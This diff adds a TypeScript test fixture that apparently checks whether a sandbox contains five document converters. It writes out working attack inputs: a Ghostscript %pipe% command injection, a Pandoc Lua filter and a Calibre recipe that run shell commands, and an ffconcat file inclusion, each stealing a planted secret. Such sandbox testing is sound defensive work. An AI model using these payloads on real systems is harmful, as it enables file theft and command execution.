@@ -1,0 +1,149 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { findOnPath } from '../command.ts';
+import { document, image } from './fixtures.ts';
+import { linkingDocument } from './linkingOffice.ts';
+
+/** What a program is led to, and may not reach. */
+export interface Prey {
+  /** A file with a secret, without its extension: there is one that each program can read. */
+  readonly stem: string;
+  /** A file that is not there. */
+  readonly outside: string;
+  /** An address of this computer. */
+  readonly url: string;
+}
+
+/** A program that does whatever a file wants, with all that would keep it from that left out. */
+export interface ProgramAttack {
+  readonly name: string;
+  readonly program: string;
+  /** Writes the files into the folder where it starts, and says what it is run with, one run after the other. */
+  readonly runs: (home: string, prey: Prey) => readonly (readonly string[])[];
+}
+
+export const secret = 'the secret of this computer';
+
+/** Lays down what there is to be stolen. */
+export function layPrey({ stem }: Prey): void {
+  writeFileSync(`${stem}.txt`, secret);
+  writeFileSync(`${stem}.png`, readFileSync(image('alpha.png')));
+  writeFileSync(`${stem}.wav`, wavOf(Buffer.from(secret.padEnd(1000, '.'))));
+}
+
+const found = (name: string): string => findOnPath(name) ?? '';
+
+/** What a command of the shell does with the prey. */
+const raid = ({ stem, outside, url }: Prey): string =>
+  `cat '${stem}.txt' >stolen; echo written >'${outside}'; /usr/bin/python3 -c "import urllib.request; urllib.request.urlopen('${url}/raid', timeout=5)"`;
+
+export const programAttacks: readonly ProgramAttack[] = [
+  {
+    name: 'FFmpeg',
+    program: found('ffmpeg'),
+    runs: (home, { stem, outside, url }) => {
+      const list = path.join(home, 'list.txt');
+      writeFileSync(list, `ffconcat version 1.0\nfile '${stem}.wav'\n`);
+      const quietly = ['-nostdin', '-v', 'error', '-y'];
+      return [
+        [...quietly, '-f', 'concat', '-safe', '0', '-i', list, '-c', 'copy', 'stolen.wav'],
+        [...quietly, '-i', `${url}/film.mp4`, 'film.mp4'],
+        [...quietly, '-f', 'lavfi', '-i', 'anullsrc', '-t', '0.1', '-f', 'wav', outside],
+      ];
+    },
+  },
+  {
+    name: 'LibreOffice',
+    program: found('soffice'),
+    runs: (home, { stem, outside }) => {
+      const text = path.join(home, 'a.fodt');
+      writeFileSync(text, linkingDocument('fodt', [`file://${stem}.png`]));
+      const profile = `-env:UserInstallation=file://${home}/profile`;
+      const to = (folder: string): string[] => [
+        profile,
+        '--headless',
+        '--convert-to',
+        'pdf',
+        '--outdir',
+        folder,
+      ];
+      return [
+        [...to(home), text],
+        [...to(`${outside}-folder`), text],
+      ];
+    },
+  },
+  {
+    name: 'Pandoc',
+    program: found('pandoc'),
+    runs: (home, prey) => {
+      const [text, filter] = [path.join(home, 'a.rst'), path.join(home, 'filter.lua')];
+      writeFileSync(text, `a\n\n.. include:: ${prey.stem}.txt\n`);
+      writeFileSync(filter, `os.execute(${JSON.stringify(raid(prey))})`);
+      return [
+        ['--from=rst', '--to=plain', '--output=included.txt', text],
+        [`--lua-filter=${filter}`, '--from=rst', '--to=plain', '--output=filtered.txt', text],
+      ];
+    },
+  },
+  {
+    name: 'Calibre',
+    program: found('ebook-convert'),
+    runs: (home, prey) => {
+      const recipe = path.join(home, 'a.recipe');
+      writeFileSync(recipe, `import os\nos.system(${JSON.stringify(raid(prey))})\nos._exit(0)\n`);
+      return [[recipe, path.join(home, 'a.epub')]];
+    },
+  },
+  {
+    name: 'Ghostscript',
+    program: found('gs'),
+    runs: (home, prey) => {
+      const page = path.join(home, 'a.ps');
+      const command = raid(prey).replaceAll(/[()\\]/g, String.raw`\$&`);
+      writeFileSync(page, `%!\n(%pipe%${command}) (w) file closefile\nshowpage\n`);
+      return [['-dNOSAFER', '-dBATCH', '-dNOPAUSE', '-q', '-sDEVICE=pdfwrite', '-sOutputFile=a.pdf', page]];
+    },
+  },
+];
+
+/** What each program does for a file that means well, where it starts. */
+export const honestRuns: Readonly<Record<string, (home: string) => readonly string[]>> = {
+  FFmpeg: (home) => {
+    writeFileSync(path.join(home, 'in.wav'), wavOf(Buffer.alloc(8000)));
+    return ['-nostdin', '-v', 'error', '-y', '-i', 'in.wav', '-c:a', 'flac', 'made.flac'];
+  },
+  LibreOffice: (home) => {
+    writeFileSync(path.join(home, 'made.docx'), readFileSync(document('voyage.docx')));
+    return [`-env:UserInstallation=file://${home}/p`, '--headless', '--convert-to', 'pdf', 'made.docx'];
+  },
+  Pandoc: (home) => {
+    writeFileSync(path.join(home, 'in.md'), '# a\n');
+    return ['--sandbox', '--standalone', '--output=made.html', 'in.md'];
+  },
+  Calibre: (home) => {
+    writeFileSync(path.join(home, 'in.epub'), readFileSync(document('voyage.epub')));
+    return [path.join(home, 'in.epub'), path.join(home, 'made.azw3')];
+  },
+  Ghostscript: (home) => {
+    writeFileSync(path.join(home, 'in.pdf'), readFileSync(document('text.pdf')));
+    return ['-dSAFER', '-dBATCH', '-dNOPAUSE', '-q', '-sDEVICE=ps2write', '-sOutputFile=made.ps', 'in.pdf'];
+  },
+};
+
+function wavOf(samples: Buffer): Buffer {
+  const header = Buffer.alloc(44);
+  header.write('RIFF', 0);
+  header.writeUInt32LE(36 + samples.length, 4);
+  header.write('WAVEfmt ', 8);
+  header.writeUInt32LE(16, 16);
+  header.writeUInt16LE(1, 20);
+  header.writeUInt16LE(1, 22);
+  header.writeUInt32LE(8000, 24);
+  header.writeUInt32LE(8000, 28);
+  header.writeUInt16LE(1, 32);
+  header.writeUInt16LE(8, 34);
+  header.write('data', 36);
+  header.writeUInt32LE(samples.length, 40);
+  return Buffer.concat([header, samples]);
+}
